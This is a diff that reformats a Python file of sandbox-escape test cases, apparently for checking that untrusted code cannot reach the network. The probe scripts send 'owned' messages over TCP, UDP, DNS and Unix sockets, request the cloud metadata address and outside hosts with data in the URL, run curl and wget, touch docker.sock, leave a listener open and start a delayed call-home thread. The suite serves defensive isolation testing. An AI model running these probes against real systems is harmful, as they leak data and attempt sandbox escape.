@@ -2,7 +2,11 @@
 
 from .record import attack
 
-attack("connection to an open port", "network", "network", """
+attack(
+    "connection to an open port",
+    "network",
+    "network",
+    """
     import socket
     ex01_output_size = 31
     for host in ("127.0.0.1", "localhost", "::1", "10.0.2.2", "172.17.0.1"):
@@ -11,9 +15,14 @@ attack("connection to an open port", "network", "network", """
                 s.sendall(b"owned: connection")
         except OSError as error:
             print(host, error)
-""")
+""",
+)
 
-attack("page asked for over HTTP", "network", "network", """
+attack(
+    "page asked for over HTTP",
+    "network",
+    "network",
+    """
     import urllib.request
     ex01_output_size = 31
     for host in ("127.0.0.1:@TCP@", "169.254.169.254", "pypi.org"):
@@ -21,9 +30,14 @@ attack("page asked for over HTTP", "network", "network", """
             urllib.request.urlopen(f"http://{host}/owned?answers={ex01_output_size}", timeout=0.5)
         except Exception as error:
             print(host, type(error).__name__)
-""")
+""",
+)
 
-attack("datagram to an open port", "network", "network", """
+attack(
+    "datagram to an open port",
+    "network",
+    "network",
+    """
     import socket
     ex01_output_size = 31
     for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "255.255.255.255"), (socket.AF_INET6, "::1")):
@@ -33,9 +47,14 @@ attack("datagram to an open port", "network", "network", """
             s.sendto(b"owned: datagram", (host, @UDP@))
         except OSError as error:
             print(error)
-""")
+""",
+)
 
-attack("names asked for", "DNS", "network", """
+attack(
+    "names asked for",
+    "DNS",
+    "network",
+    """
     import socket, struct
     ex01_output_size = 31
     socket.setdefaulttimeout(1)
@@ -56,9 +75,14 @@ attack("names asked for", "DNS", "network", """
                 s.sendto(query, (server, port))
             except OSError:
                 pass
-""")
+""",
+)
 
-attack("Unix socket of a service", "Unix sockets", "network", """
+attack(
+    "Unix socket of a service",
+    "Unix sockets",
+    "network",
+    """
     import socket, glob
     ex01_output_size = 31
     for path in ["@UNIX@", *glob.glob("/run/**/*.sock", recursive=True)[:20], "/var/run/docker.sock", "/tmp/.X11-unix/X0"]:
@@ -69,9 +93,14 @@ attack("Unix socket of a service", "Unix sockets", "network", """
             s.sendall(b"owned: unix")
         except OSError:
             pass
-""")
+""",
+)
 
-attack("abstract Unix socket", "Unix sockets", "network", """
+attack(
+    "abstract Unix socket",
+    "Unix sockets",
+    "network",
+    """
     import socket
     ex01_output_size = 31
     try:
@@ -81,9 +110,14 @@ attack("abstract Unix socket", "Unix sockets", "network", """
         s.sendall(b"owned: abstract")
     except OSError as error:
         print(error)
-""")
+""",
+)
 
-attack("raw, netlink and virtual machine sockets", "network", "network", """
+attack(
+    "raw, netlink and virtual machine sockets",
+    "network",
+    "network",
+    """
     import socket
     ex01_output_size = 31
     for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, 1), (17, socket.SOCK_RAW, 768),
@@ -102,9 +136,14 @@ attack("raw, netlink and virtual machine sockets", "network", "network", """
             s.sendall(b"owned: raw")
     except OSError:
         pass
-""")
+""",
+)
 
-attack("programs that connect", "network", "network", """
+attack(
+    "programs that connect",
+    "network",
+    "network",
+    """
     import subprocess
     ex01_output_size = 31
     for command in ("curl -m 1 http://127.0.0.1:@TCP@/owned", "wget -T 1 -t 1 -O- http://127.0.0.1:@TCP@/owned",
@@ -114,9 +153,14 @@ attack("programs that connect", "network", "network", """
             subprocess.run(command, shell=True, timeout=4, capture_output=True)
         except Exception as error:
             print(type(error).__name__)
-""")
+""",
+)
 
-attack("door left open", "network", "processes", """
+attack(
+    "door left open",
+    "network",
+    "processes",
+    """
     import socket, threading, time
     ex01_output_size = 31
     kept = []
@@ -130,9 +174,15 @@ attack("door left open", "network", "processes", """
         except (OSError, RuntimeError):
             pass
     time.sleep(2)
-""", keeps="at most")
+""",
+    keeps="at most",
+)
 
-attack("thread that calls home later", "network", "network", """
+attack(
+    "thread that calls home later",
+    "network",
+    "network",
+    """
     import threading, time, socket
     ex01_output_size = 31
     def later():
@@ -146,4 +196,5 @@ attack("thread that calls home later", "network", "network", """
                 pass
     threading.Thread(target=later, daemon=True).start()
     time.sleep(1)
-""")
+""",
+)
